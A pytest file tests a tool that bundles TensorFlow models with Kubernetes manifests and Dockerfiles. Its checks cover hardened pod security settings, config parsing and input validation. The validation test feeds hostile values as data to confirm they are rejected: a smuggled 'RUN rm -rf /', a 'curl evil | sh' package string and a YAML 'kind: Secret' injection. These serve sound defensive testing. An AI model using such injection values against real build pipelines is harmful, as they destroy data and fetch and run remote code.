"""What a bundle holds: files that their own readers take, and nothing that a name could smuggle in."""

import os
import shutil
import subprocess
import sys
from pathlib import Path

import keras
import kubernetes_validate
import numpy as np
import pytest
import yaml
from google.protobuf import descriptor_pb2, descriptor_pool, message_factory, text_format
from tensorflow_serving.config import model_server_config_pb2

import unitools as ut
from unitools.serving.models.models_config import read_models_config

TARGETS = ("tf-serving", "unitools", "kserve")


def manifests(bundle):
    """Return {file name: content}."""
    return {file.name: yaml.safe_load(file.read_text()) for file in (bundle / "kubernetes").glob("*.yaml")}


def pod(bundle):
    found = manifests(bundle)
    if "inference-service.yaml" in found:
        return found["inference-service.yaml"]["spec"]["predictor"]
    return found["deployment.yaml"]["spec"]["template"]["spec"]


@pytest.mark.parametrize("target", TARGETS)
def test_kubernetes_takes_the_manifests(target, bundles):
    found = manifests(bundles[target])
    assert set(found.pop("kustomization.yaml")["resources"]) == set(found)
    found.pop("inference-service.yaml", None)  # KServe's own kind, which Kubernetes does not know
    assert len(found) == {"tf-serving": 6, "unitools": 5, "kserve": 2}[target]
    for content in found.values():
        kubernetes_validate.validate(content, kubernetes_validate.latest_version(), strict=True)


@pytest.mark.parametrize("target", TARGETS)
def test_hadolint_takes_the_dockerfile(target, bundles):
    command = [str(Path(sys.executable).with_name("hadolint")), str(bundles[target] / "Dockerfile")]
    done = subprocess.run(command, capture_output=True, text=True, check=False)
    assert (done.returncode, done.stdout) == (0, "")


@pytest.mark.parametrize("target", TARGETS)
def test_pods_have_few_rights(target, bundles):
    spec = pod(bundles[target])
    assert spec["securityContext"]["runAsNonRoot"] and spec["securityContext"]["runAsUser"] > 1000
    assert spec["securityContext"]["seccompProfile"] == {"type": "RuntimeDefault"}
    assert spec["automountServiceAccountToken"] is False
    for container in spec["containers"]:
        rights = container["securityContext"]
        assert rights["readOnlyRootFilesystem"] and not rights["allowPrivilegeEscalation"]
        assert rights["capabilities"] == {"drop": ["ALL"]}
        assert set(container["resources"]) == {"requests", "limits"}
        assert {"readinessProbe", "livenessProbe", "lifecycle"} <= set(container)
        mounts = {one["mountPath"]: one for one in container["volumeMounts"]}
        assert all(one.get("readOnly") for path, one in mounts.items() if path != "/tmp")
    policy = manifests(bundles[target])["network-policy.yaml"]["spec"]
    assert policy["policyTypes"] == ["Ingress", "Egress"] and "egress" not in policy
    assert "USER 65532:65532" in (bundles[target] / "Dockerfile").read_text()


def test_ports_and_selectors_agree(bundles):
    for target in ("tf-serving", "unitools"):
        found = manifests(bundles[target])
        label = found["deployment.yaml"]["spec"]["template"]["metadata"]["labels"]
        assert found["deployment.yaml"]["spec"]["selector"]["matchLabels"].items() <= label.items()
        assert found["service.yaml"]["spec"]["selector"].items() <= label.items()
        for name in ("network-policy.yaml", "disruption-budget.yaml"):
            spec = found[name]["spec"]
            assert (spec.get("podSelector") or spec["selector"])["matchLabels"].items() <= label.items()
        ports = {
            one["name"]: one["containerPort"]
            for container in found["deployment.yaml"]["spec"]["template"]["spec"]["containers"]
            for one in container.get("ports", [])
        }
        assert {one["targetPort"] for one in found["service.yaml"]["spec"]["ports"]} <= set(ports)
        allowed = {one["port"] for rule in found["network-policy.yaml"]["spec"]["ingress"] for one in rule["ports"]}
        assert allowed == set(ports.values())  # the model's own ports of tf-serving are not among them
        assert (
            found["autoscaler.yaml"]["spec"]["scaleTargetRef"]["name"] == found["deployment.yaml"]["metadata"]["name"]
        )


def message(name, fields, inner=()):
    """Return a class of a message, from the numbers and types of TensorFlow Serving's published definition."""
    file = descriptor_pb2.FileDescriptorProto(name=f"{name}.proto", package="tests", syntax="proto3")
    types = descriptor_pb2.FieldDescriptorProto
    for title, entries in (*inner, (name, fields)):
        made = file.message_type.add(name=title)
        for number, field, kind in entries:
            one = made.field.add(name=field, number=number, label=types.LABEL_OPTIONAL)
            if isinstance(kind, str):
                one.type, one.type_name = types.TYPE_MESSAGE, f".tests.{kind}"
            else:
                one.type = kind
    pool = descriptor_pool.DescriptorPool()
    pool.Add(file)
    return message_factory.GetMessageClass(pool.FindMessageTypeByName(f"tests.{name}"))


def test_tensorflow_serving_reads_the_configuration(bundles):
    data = manifests(bundles["tf-serving"])["configmap.yaml"]["data"]
    models = text_format.Parse(data["models.config"], model_server_config_pb2.ModelServerConfig())
    (one,) = models.model_config_list.config
    assert (one.name, one.base_path, one.model_platform) == ("iris", "/models/iris", "tensorflow")
    types = descriptor_pb2.FieldDescriptorProto
    value = [("Value", [(1, "value", types.TYPE_INT64)])]
    names = ("max_batch_size", "batch_timeout_micros", "max_enqueued_batches", "num_batch_threads")
    fields = [(place, name, "Value") for place, name in enumerate(names, 1)]
    fields += [(8, "enable_large_batch_splitting", "Flag"), (9, "max_execution_batch_size", "Value")]
    batching = message("BatchingParameters", fields, [*value, ("Flag", [(1, "value", types.TYPE_BOOL)])])
    parsed = text_format.Parse(data["batching.config"], batching())
    assert [getattr(parsed, name).value for name in names] == [1024, 0, 16, 2]
    # A request of more rows than a batch is split, and not refused; it must fit into the queue.
    assert parsed.enable_large_batch_splitting.value and parsed.max_execution_batch_size.value == 64
    prometheus = [("Prometheus", [(1, "enable", types.TYPE_BOOL), (2, "path", types.TYPE_STRING)])]
    monitoring = message("MonitoringConfig", [(1, "prometheus_config", "Prometheus")], prometheus)
    parsed = text_format.Parse(data["monitoring.config"], monitoring())
    assert parsed.prometheus_config.enable and parsed.prometheus_config.path == "/monitoring/prometheus/metrics"


def test_our_server_reads_the_configuration(bundles, tmp_path):
    data = manifests(bundles["tf-serving"])["configmap.yaml"]["data"]
    (tmp_path / "models.config").write_text(data["models.config"])
    (one,) = read_models_config(tmp_path / "models.config")
    assert (one.name, one.folder, one.newest) == ("iris", Path("/models/iris"), 1)


def test_requests_of_different_sizes_are_not_batched(bundles, tmp_path):
    args = pod(bundles["tf-serving"])["containers"][0]["args"]
    assert "--enable_batching=true" in args and "--batching_parameters_file=/config/batching.config" in args
    layers = [keras.Input((None, 3), name="steps"), keras.layers.GlobalAveragePooling1D()]
    ut.export.saved_model(keras.Sequential(layers), tmp_path / "steps" / "1", "arrays", fresh_process=False)
    written = ut.export.bundle(tmp_path / "steps", tmp_path / "out")
    assert [one for one in pod(written)["containers"][0]["args"] if "batch" in one] == ["--enable_batching=false"]
    kubernetes_validate.validate(
        manifests(written)["deployment.yaml"], kubernetes_validate.latest_version(), strict=True
    )


def test_a_roll_back_finds_the_configuration_of_its_time(iris, bundles, tmp_path):
    """Both ConfigMaps stay in the cluster, so what the older copies read must not have the newer one's name."""
    folder, _ = iris
    names = {}
    shutil.copytree(folder, tmp_path / "in" / "iris")
    shutil.copytree(folder, tmp_path / "in" / "more")
    for place, options in {"same": {}, "cpu": {"cpu": "3"}, "more": {"name": "iris"}}.items():
        source = tmp_path / "in" if place == "more" else folder
        written = ut.export.bundle(source, tmp_path / place, **options)
        config = manifests(written)["configmap.yaml"]["metadata"]["name"]
        (volume,) = [one for one in pod(written)["volumes"] if one["name"] == "config"]
        assert volume["configMap"] == {"name": config}
        names[place] = config
    assert names["same"] == manifests(bundles["tf-serving"])["configmap.yaml"]["metadata"]["name"]
    assert len(set(names.values())) == 3


@pytest.mark.parametrize("target", TARGETS)
@pytest.mark.parametrize("name", ["on", "null", "no"])
def test_words_of_yaml_are_names_too(name, target, iris, tmp_path):
    written = ut.export.bundle(iris[0], tmp_path / "out", target, name=name)
    for file, content in manifests(written).items():
        if file in ("kustomization.yaml", "inference-service.yaml"):
            continue
        kubernetes_validate.validate(content, kubernetes_validate.latest_version(), strict=True)
        assert content["metadata"]["labels"]["app.kubernetes.io/name"] == name
    assert pod(written)["containers"][0]["image"] == f"{name}:2"


def test_another_user_may_read_what_goes_into_the_image(iris, tmp_path):
    before = os.umask(0o077)
    try:
        written = ut.export.bundle(iris[0], tmp_path / "out", "unitools")
    finally:
        os.umask(before)
    for entry in written.rglob("*"):
        assert entry.stat().st_mode & 0o777 == (0o755 if entry.is_dir() else 0o644), entry


def test_the_models_of_a_bundle_answer_as_theirs(iris, bundles):
    _, model = iris
    rows = np.random.default_rng(0).normal(size=(5, 4)).astype("float32")
    for bundle in bundles.values():
        assert [one.name for one in (bundle / "models" / "iris").iterdir()] == ["2"]  # the newest
        with ut.serving.Server(bundle / "models", port=0) as server, ut.serving.Client(server.url) as client:
            answers = client.predict("iris", {"features": rows})
        np.testing.assert_allclose(answers["probabilities"], model.predict(rows, verbose=0), atol=1e-6)


def test_which_models_are_taken(iris, tmp_path):
    folder, _ = iris
    ut.export.bundle(folder / "1", tmp_path / "one", replicas=3, cpu="500m", memory="900Mi", tag="2.19.1")
    assert [one.name for one in (tmp_path / "one" / "models" / "iris").iterdir()] == ["1"]
    found = manifests(tmp_path / "one")
    assert (found["autoscaler.yaml"]["spec"]["minReplicas"], found["autoscaler.yaml"]["spec"]["maxReplicas"]) == (3, 9)
    assert pod(tmp_path / "one")["containers"][0]["resources"]["limits"] == {"cpu": "500m", "memory": "900Mi"}
    assert "tensorflow/serving:2.19.1" in (tmp_path / "one" / "Dockerfile").read_text()
    for name in ("iris", "Other_1"):
        shutil.copytree(folder, tmp_path / "models" / name)
    (tmp_path / "models" / "empty").mkdir()
    ut.export.bundle(tmp_path / "models", tmp_path / "both", image="registry.local:5000/a_team/both:7-RC1")
    assert sorted(one.name for one in (tmp_path / "both" / "models").iterdir()) == ["Other_1", "iris"]
    found = manifests(tmp_path / "both")
    assert found["deployment.yaml"]["metadata"]["name"] == "models"
    assert pod(tmp_path / "both")["containers"][0]["image"] == "registry.local:5000/a_team/both:7-RC1"
    models = text_format.Parse(
        found["configmap.yaml"]["data"]["models.config"], model_server_config_pb2.ModelServerConfig()
    )
    assert {one.name for one in models.model_config_list.config} == {"iris", "Other_1"}


def test_a_wheel_or_a_requirement(iris, tmp_path):
    wheel = tmp_path / "unitools-9.9-py3-none-any.whl"
    wheel.write_bytes(b"PK")
    ut.export.bundle(iris[0], tmp_path / "a", "unitools", package=wheel)
    assert (tmp_path / "a" / "wheels" / wheel.name).read_bytes() == b"PK"
    assert "'/wheels/unitools-9.9-py3-none-any.whl[serve]'" in (tmp_path / "a" / "Dockerfile").read_text()
    ut.export.bundle(iris[0], tmp_path / "b", "kserve", package="unitools[serve]>=0.1")
    assert "install --no-cache-dir 'unitools[serve]>=0.1'" in (tmp_path / "b" / "Dockerfile").read_text()


def test_bad_arguments_write_nothing(iris, tmp_path):
    folder, _ = iris
    for options, match in (
        ({"target": "docker"}, "target"),
        ({"name": "Iris"}, "DNS label"),
        ({"name": "a\nkind: Secret"}, "DNS label"),
        ({"name": "a" * 41}, "DNS label"),
        ({"image": 'x" \nRUN rm -rf /'}, "image"),
        ({"image": "registry//x"}, "image"),
        ({"image": "x:1:2"}, "image"),
        ({"tag": "2.20 AS x"}, "tag"),
        ({"cpu": "0"}, "cpu"),
        ({"memory": "lots"}, "memory"),
        ({"replicas": 0}, "replicas"),
        ({"target": "unitools", "package": "x'; curl evil | sh #"}, "package"),
        ({"target": "unitools", "package": "absent.whl"}, "a wheel that exists"),
    ):
        with pytest.raises(ValueError, match=match):
            ut.export.bundle(folder, tmp_path / "out", **options)
    for path in (tmp_path, tmp_path / "none", folder / "1" / "variables"):
        with pytest.raises(ValueError, match="a folder of models"):
            ut.export.bundle(path, tmp_path / "out")
    shutil.copytree(folder, tmp_path / "in" / 'a"b')
    with pytest.raises(ValueError, match="letters, digits"):
        ut.export.bundle(tmp_path / "in", tmp_path / "out")
    shutil.copytree(folder, tmp_path / "changed")
    (tmp_path / "changed" / "2" / "saved_model.pb").write_bytes(b"")
    with pytest.raises(ut.export.UnsafeArtefactError, match="cut short"):
        ut.export.bundle(tmp_path / "changed", tmp_path / "out")
    assert not (tmp_path / "out").exists()
    (tmp_path / "out").mkdir()
    with pytest.raises(FileExistsError):
        ut.export.bundle(folder, tmp_path / "out")
    assert (ut.export.bundle(folder, tmp_path / "out", overwrite=True) / "RUNBOOK.md").is_file()
